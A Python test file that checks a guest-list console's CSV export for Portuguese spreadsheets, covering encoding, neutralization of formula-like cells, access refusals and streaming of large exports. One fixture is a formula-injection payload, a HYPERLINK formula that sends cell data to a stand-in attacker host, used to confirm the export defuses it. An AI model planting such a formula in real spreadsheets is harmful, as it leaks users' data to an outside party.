"""The console's CSV export over real HTTP: a file Excel and LibreOffice open in a Portuguese
locale (BOM, `;`, CRLF, accents), formula-like cells neutralized, the safe file name, every
refusal as JSON before any byte of CSV, and 20 000 rows streamed."""

from __future__ import annotations

import csv
import io
import secrets

import httpx
import pytest

from tests.support import staff
from tests.support.server import LiveServer

PASSWORD = "Consola123"
POOL_MAX = 8  # tests/support/server.py: the app's pool in every test server
HYPERLINK = '=HYPERLINK("http://atacante.example/?d="&A1;"Clique aqui")'
_base = iter(range(secrets.randbelow(1000) * 40_000, 10**8, 30_000))


web = staff.web  # the module's server (tests/support/staff.py)


def client(web: LiveServer) -> httpx.Client:
    return httpx.Client(base_url=web.base_url, headers={"Origin": web.base_url}, timeout=60)


def member(web: LiveServer, org: str, role: str, promoter: str | None = None) -> httpx.Client:
    """A logged-in client of a new member of `org` with `role`."""
    invite = web.sql(
        "web_test_invite_member",
        {
            "organization_id": org,
            "email": f"{role}.{secrets.token_hex(4)}@example.pt",
            "role": role,
            "promoter_id": promoter,
        },
    )
    c = client(web)
    r = c.post(
        "/api/staff/invite/accept",
        json={"token": invite["inviteToken"], "password": PASSWORD, "displayName": "Membro"},
    )
    assert r.status_code == 200, r.text
    return c


def seed(web: LiveServer, event: str, name: str, n: int = 1, inside_every: int = 1000) -> None:
    added = web.sql(
        "web_test_seed_guests",
        {
            "event_id": event,
            "promoter_id": web.demo["promoterId"],
            "team_id": web.demo["teamId"],
            "name": name,
            "n": n,
            "base": next(_base),
            "inside_every": inside_every,
        },
    )
    assert added == n


@pytest.fixture(scope="module")
def owner(web: LiveServer) -> httpx.Client:
    return member(web, web.demo["organizationId"], "owner")


@pytest.fixture(scope="module")
def listed(web: LiveServer) -> dict[str, str]:
    """The demo event's list with an accented name, formula-like names and a quoted one (a tab
    or a carriage return cannot start a stored name: the unit tests cover those)."""
    names = {
        "accents": "Conceição Simões Açores",
        "hyperlink": HYPERLINK,
        "plus": "+351 chamada",
        "minus": "-2+3",
        "at": "@SOMA(A1:A9)",
        "quoted": 'Zé "Tó"; Silva',
    }
    for name in names.values():
        seed(web, web.demo["eventId"], name, inside_every=1)
    return names


def rows(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte order mark"
    text = body[3:].decode("utf-8")
    assert "\r\n" in text and "\n" not in text.replace("\r\n", "")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_csv_for_a_portuguese_spreadsheet(
    web: LiveServer, owner: httpx.Client, listed: dict[str, str]
) -> None:
    event = web.demo["eventId"]
    r = owner.get(f"/api/console/events/{event}/export.csv")
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.headers["content-disposition"] == f'attachment; filename="convidados-{event}.csv"'
    assert r.headers["cache-control"] == "no-store"
    table = rows(r.content)
    assert table[0] == ["Nome", "Telefone", "Promotor", "Equipa", "Estado", "Entrada", "Registo"]
    by_name = {row[0]: row for row in table[1:]}
    assert len(table) - 1 == len(by_name) >= len(listed)
    accented = by_name[listed["accents"]]
    assert accented[1].startswith("'+3519") and accented[4] == "Entrou"
    assert accented[2] and accented[3], "promoter and team named"
    assert len(accented[5]) == len("2026-01-01 23:00") and len(accented[6]) == 16
    # every formula-like first character behind a '
    for key in ("hyperlink", "plus", "minus", "at"):
        assert "'" + listed[key] in by_name, key
        assert listed[key] not in by_name, key
    # ; and " survive as one quoted cell
    assert listed["quoted"] in by_name
    assert '"Zé ""Tó""; Silva"' in r.content.decode("utf-8-sig")


def test_no_cell_starts_a_formula(
    web: LiveServer, owner: httpx.Client, listed: dict[str, str]
) -> None:
    r = owner.get(f"/api/console/events/{web.demo['eventId']}/export.csv")
    for row in rows(r.content)[1:]:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_names_a_manager_sets_are_neutralized_too(web: LiveServer) -> None:
    """A promoter's and a team's names are typed by a manager, not by the guest: their cells
    get the same leading ' as a guest's name."""
    manager = member(web, web.demo["organizationId"], "manager")
    org = web.demo["organizationId"]
    added = manager.post(
        f"/api/console/organizations/{org}/promoters",
        json={
            "slug": f"formula-{secrets.token_hex(3)}",
            "displayName": HYPERLINK,
            "teamName": "@SOMA(A1:A9)",
        },
    )
    assert added.status_code == 200, added.text
    event = str(
        web.sql(
            "web_test_create_event",
            {
                "organization_id": org,
                "title": "Fórmulas",
                "slug": f"formulas-{secrets.token_hex(3)}",
                "capacity": None,
                "closes_at": None,
            },
        )
    )
    assert (
        web.sql(
            "web_test_seed_guests",
            {
                "event_id": event,
                "promoter_id": added.json()["id"],
                "team_id": added.json()["teamId"],
                "name": "-1+1",
                "n": 1,
                "base": next(_base),
                "inside_every": 1,
            },
        )
        == 1
    )
    r = manager.get(f"/api/console/events/{event}/export.csv")
    manager.close()
    assert r.status_code == 200, r.text
    (row,) = rows(r.content)[1:]
    assert row[:4] == ["'-1+1", row[1], "'" + HYPERLINK, "'@SOMA(A1:A9)"]
    assert row[1].startswith("'+3519")


def test_refusals_are_json_before_any_csv(web: LiveServer, owner: httpx.Client) -> None:
    event = web.demo["eventId"]
    path = f"/api/console/events/{event}/export.csv"
    with client(web) as anonymous:
        r = anonymous.get(path)
        assert r.status_code == 401 and r.json()["code"] == "session_invalid"
        anonymous.cookies.set("gl_staff", "0" * 64)
        r = anonymous.get(path)
        assert r.status_code == 401 and r.json()["code"] == "session_invalid"
    r = owner.get("/api/console/events/not-a-uuid/export.csv")
    assert r.status_code == 400 and r.json()["code"] == "invalid_input"
    missing = owner.get(f"/api/console/events/{secrets.token_hex(16)}/export.csv")
    assert missing.status_code == 404 and missing.json()["code"] == "not_found"
    # another organization's owner: the event is not there for them, exactly as a missing one
    made = web.sql(
        "web_test_create_organization",
        {"name": "Outra", "slug": f"outra-{secrets.token_hex(3)}", "owner_email": "o@outra.pt"},
    )
    with client(web) as stranger:
        ok = stranger.post(
            "/api/staff/invite/accept",
            json={"token": made["inviteToken"], "password": PASSWORD, "displayName": "Outra"},
        )
        assert ok.status_code == 200, ok.text
        r = stranger.get(path)
        assert r.status_code == 404 and r.json() == missing.json()
    # a promoter sees the event but may not export phones
    promoter = member(web, web.demo["organizationId"], "promoter", web.demo["promoterId"])
    r = promoter.get(path)
    promoter.close()
    assert r.status_code == 403 and r.json()["code"] == "forbidden"
    assert not r.content.startswith(b"\xef\xbb\xbf")


def test_twenty_thousand_rows_streamed(web: LiveServer, owner: httpx.Client) -> None:
    slug = f"grande-{secrets.token_hex(3)}"
    event = str(
        web.sql(
            "web_test_create_event",
            {
                "organization_id": web.demo["organizationId"],
                "title": "Grande",
                "slug": slug,
                "capacity": None,
                "closes_at": None,
            },
        )
    )
    seed(web, event, "Convidado Ção", n=20_000, inside_every=3)
    lines = 0
    chunks = 0
    inside = 0
    with owner.stream("GET", f"/api/console/events/{event}/export.csv") as r:
        assert r.status_code == 200
        assert "content-length" not in r.headers, "a streamed answer has no length up front"
        tail = b""
        for chunk in r.iter_bytes():
            chunks += 1
            data = tail + chunk
            *complete, tail = data.split(b"\r\n")
            lines += len(complete)
            inside += sum(1 for line in complete if b";Entrou;" in line)
    assert tail == b""
    assert lines == 20_001
    assert inside == 20_000 // 3
    assert chunks > 1, "the file came as one piece"


def test_exports_dropped_halfway_give_their_connections_back(
    web: LiveServer, owner: httpx.Client
) -> None:
    """Clients that leave after the first chunk, more of them than the pool has connections:
    each one's query ends and its connection returns, so the list still answers after."""
    slug = f"meio-{secrets.token_hex(3)}"
    event = str(
        web.sql(
            "web_test_create_event",
            {
                "organization_id": web.demo["organizationId"],
                "title": "Meio",
                "slug": slug,
                "capacity": None,
                "closes_at": None,
            },
        )
    )
    seed(web, event, "Saída Cedo", n=5_000)
    busy = 0
    for _ in range(3 * POOL_MAX):
        with owner.stream(
            "GET",
            f"/api/console/events/{event}/export.csv",
            headers={"Accept-Encoding": "identity"},
        ) as r:
            if r.status_code == 504:
                # the pool's wait ran out while earlier queries were still being cancelled
                busy += 1
                continue
            assert r.status_code == 200
            first = next(r.iter_raw())
            assert first.startswith(b"\xef\xbb\xbf")
        # leaving the block closes the connection with most of the file unread
    assert busy < 2 * POOL_MAX, "abandoned exports kept their connections"
    # every connection comes back: the list and a whole export answer again
    for _ in range(60):
        r = owner.get(f"/api/console/events/{event}/guests?limit=1")
        if r.status_code != 504:
            break
    assert r.status_code == 200 and r.json()["total"] == 5_000
    r = owner.get(f"/api/console/events/{event}/export.csv")
    assert r.status_code == 200 and r.content.count(b"\r\n") == 5_001
